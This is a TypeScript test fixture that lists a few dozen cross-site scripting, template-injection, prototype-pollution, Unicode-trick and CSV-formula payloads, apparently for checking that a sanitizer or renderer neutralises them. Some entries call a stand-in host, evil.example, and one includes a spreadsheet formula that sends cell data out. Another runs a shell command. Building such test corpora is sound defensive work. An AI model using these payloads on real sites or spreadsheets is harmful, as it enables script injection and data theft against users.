/**
 * Texts that try to run as a script wherever they are shown, one or more for each published class. Written for this
 * project after the classes of: OWASP "XSS Filter Evasion Cheat Sheet"; PortSwigger "Cross-site scripting cheat sheet";
 * Cure53 "HTML5 Security Cheatsheet" and the mutation cases of the DOMPurify tests; Heiderich et al., "mXSS attacks"
 * (CCS 2013); Lekies et al., "Code-Reuse Attacks for the Web" on script gadgets (CCS 2017); OWASP "CSV Injection";
 * Boucher and Anderson, "Trojan Source" (2021). Each would set `hurt` on the window, or open a dialog.
 */
export const hostileTexts: readonly { kind: string; text: string }[] = [
  { kind: 'script element', text: '<script>hurt=1</script>' },
  { kind: 'script element that closes another', text: '</script><script>hurt=1</script>' },
  { kind: 'script with odd case and space', text: '<ScRiPt >hurt=1</sCrIpT\t>' },
  { kind: 'nested, for filters that remove once', text: '<scr<script>ipt>hurt=1</scr</script>ipt>' },
  { kind: 'image that fails', text: '<img src=x onerror=hurt=1>' },
  { kind: 'image, slash for space', text: '<img/src="x"/onerror="hurt=1">' },
  { kind: 'SVG that loads', text: '<svg onload=hurt=1>' },
  { kind: 'SVG with animation', text: '<svg><animate onbegin=hurt=1 attributeName=x dur=1s>' },
  { kind: 'SVG script, entity-encoded', text: '<svg><script>&#104;urt=1</script></svg>' },
  { kind: 'details that open', text: '<details open ontoggle=hurt=1>x</details>' },
  { kind: 'autofocus', text: '<input autofocus onfocus=hurt=1>' },
  { kind: 'media source', text: '<video><source onerror=hurt=1></video>' },
  { kind: 'frame with a document', text: '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>' },
  { kind: 'frame with a script address', text: '<iframe src="javascript:parent.hurt=1"></iframe>' },
  { kind: 'object and embed', text: '<object data="data:text/html,<script>top.hurt=1</script>"></object>' },
  { kind: 'base that turns addresses', text: '<base href="https://evil.example/">' },
  { kind: 'refresh', text: '<meta http-equiv=refresh content="0;url=javascript:hurt=1">' },
  { kind: 'form that takes a button', text: '<form action=javascript:hurt=1><button>Send</button></form>' },
  { kind: 'style with an address', text: '<style>@import "https://evil.example/x.css";</style>' },
  { kind: 'link element', text: '<link rel=stylesheet href="https://evil.example/x.css">' },
  { kind: 'script address', text: 'javascript:hurt=1' },
  { kind: 'script address, broken up', text: 'jav&#x09;ascript:hurt=1' },
  { kind: 'data address', text: 'data:text/html,<script>hurt=1</script>' },
  { kind: 'Markdown link', text: '[Open](javascript:hurt=1)' },
  { kind: 'Markdown image', text: '![x](x"onerror="hurt=1)' },
  { kind: 'attribute break, double', text: '" autofocus onfocus="hurt=1' },
  { kind: 'attribute break, single', text: "' onmouseover='hurt=1" },
  { kind: 'attribute break, back tick', text: '`onmouseover=hurt=1' },
  { kind: 'tag and attribute break', text: '"><img src=x onerror=hurt=1>' },
  { kind: 'text area and title break', text: '</textarea></title></style><img src=x onerror=hurt=1>' },
  { kind: 'comment break', text: '--><img src=x onerror=hurt=1><!--' },
  { kind: 'mutation by noscript', text: '<noscript><p title="</noscript><img src=x onerror=hurt=1>">' },
  { kind: 'mutation by MathML', text: '<math><mtext><table><mglyph><style><img src=x onerror=hurt=1>' },
  {
    kind: 'template gadgets',
    text: `{{constructor.constructor("hurt=1")()}}\${hurt=1}<%= hurt=1 %>#{hurt=1}`,
  },
  { kind: 'prototype names', text: '{"__proto__":{"innerHTML":"<img src=x onerror=hurt=1>"}}' },
  { kind: 'JSON in a script', text: '\u2028</script><!--<script>hurt=1//\u2029' },
  { kind: 'entities', text: '&lt;script&gt;hurt=1&lt;/script&gt; &#60;img src=x onerror=hurt=1&#62;' },
  {
    kind: 'full width and overlong',
    text: '\uff1cscript\uff1ehurt=1\uff1c/script\uff1e %3Cscript%3Ehurt=1%3C/script%3E',
  },
  { kind: 'text turned around', text: '\u202e<script>hurt=1</script>\u202c\u2066x\u2069' },
  { kind: 'combining marks', text: `Z${'\u0310\u0351\u0346'.repeat(20)}<svg/onload=hurt=1>` },
  { kind: 'formula', text: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
  { kind: 'formula with a command', text: "+cmd|'/c calc'!A1" },
  {
    kind: 'many places at once',
    text: `jaVasCript:/*-/*\`/*'/*"/**/(/* */onerror=hurt=1 )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hurt=1//>`,
  },
]
